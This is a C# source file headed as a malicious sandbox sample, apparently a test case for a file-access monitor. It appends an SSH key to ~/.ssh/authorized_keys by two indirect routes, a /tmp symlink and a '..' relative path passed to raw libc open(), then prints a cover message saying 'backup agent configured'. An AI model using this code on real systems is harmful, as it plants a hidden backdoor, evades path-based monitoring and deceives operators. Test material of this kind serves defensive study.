// MALICIOUS SAMPLE (runs only in the sandbox): plants an SSH key in ~/.ssh/authorized_keys without ever naming the
// file plainly: once through a symlink it makes in /tmp, once through a relative path climbing out of /tmp with
// "..". The key is a made-up one for a documentation host.
using System.Runtime.InteropServices;
using System.Text;

const string Key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDocumentationOnlyNotARealKey0000000000000 ops@backup.example.com\n";
var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);

// Through a symlink: the write names /tmp/.cache-keys; the kernel follows it to the real file.
File.CreateSymbolicLink("/tmp/.cache-keys", Path.Combine(home, ".ssh", "authorized_keys"));
File.AppendAllText("/tmp/.cache-keys", Key);

// Through "..": .NET would make the path absolute itself, so the raw open(2) gets it as written.
Directory.SetCurrentDirectory("/tmp");
var relative = ".." + home + "/.ssh/authorized_keys";
var fd = Native.open(relative, 0x1 | 0x40 | 0x400, 0x180); // O_WRONLY | O_CREAT | O_APPEND, 0600
if (fd < 0)
{
    Console.Error.WriteLine($"open {relative} failed: errno {Marshal.GetLastPInvokeError()}");
    return 1;
}

var bytes = Encoding.ASCII.GetBytes(Key);
Native.write(fd, bytes, bytes.Length);
Native.close(fd);
Console.WriteLine("backup agent configured");
return 0;

internal static partial class Native
{
    [LibraryImport("libc", StringMarshalling = StringMarshalling.Utf8, SetLastError = true)]
    internal static partial int open(string path, int flags, int mode);

    [LibraryImport("libc", SetLastError = true)]
    internal static partial nint write(int fd, byte[] buffer, nint count);

    [LibraryImport("libc")]
    internal static partial int close(int fd);
}
